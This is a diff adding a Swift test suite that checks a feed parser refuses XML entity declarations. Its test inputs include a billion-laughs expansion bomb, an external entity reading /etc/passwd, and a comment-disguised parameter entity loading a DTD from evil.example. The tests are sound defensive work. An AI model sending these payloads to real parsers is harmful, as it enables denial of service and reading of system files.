@@ -1,0 +1,62 @@
+import Foundation
+import Testing
+import FeedParsing
+
+@Suite struct EntityTests {
+    @Test func refusesBillionLaughs() {
+        let document = """
+            <?xml version="1.0"?>
+            <!DOCTYPE lolz [
+              <!ENTITY lol "lol">
+              <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+              <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+              <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
+              <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
+              <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
+              <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
+              <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
+              <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
+            ]>
+            <rss version="2.0"><channel><title>&lol9;</title></channel></rss>
+            """
+        #expect(parseError(document) == .declaresEntities)
+    }
+
+    @Test func refusesAnExternalEntity() {
+        let document = """
+            <?xml version="1.0"?>
+            <!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
+            <rss version="2.0"><channel><title>&secret;</title></channel></rss>
+            """
+        #expect(parseError(document) == .declaresEntities)
+    }
+
+    @Test func refusesAParameterEntityBehindAComment() {
+        let document = """
+            <?xml version="1.0"?>
+            <!-- <a> --><!DOCTYPE rss [ <!-- ] > --> <!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote; ]>
+            <rss version="2.0"><channel/></rss>
+            """
+        #expect(parseError(document) == .declaresEntities)
+    }
+
+    @Test func anExternalDTDIsNotFetched() throws {
+        // Without entity declarations the document reads; nothing is loaded from the address.
+        let feed = try parseFeed("""
+            <?xml version="1.0"?>
+            <!DOCTYPE rss SYSTEM "http://127.0.0.1:9/rss.dtd">
+            <rss version="0.91"><channel><title>T</title></channel></rss>
+            """)
+        #expect(feed.title == "T")
+    }
+
+    @Test func anUndeclaredEntityIsMalformed() {
+        let error = parseError("<rss version=\"2.0\"><channel><title>a&nbsp;b</title></channel></rss>")
+        #expect(error.map { if case .malformed = $0 { true } else { false } } == true)
+    }
+
+    @Test func theErrorSaysWhy() {
+        #expect(FeedParseError.declaresEntities.description
+            == "the document declares XML entities, which no feed needs and which are refused for safety")
+    }
+}
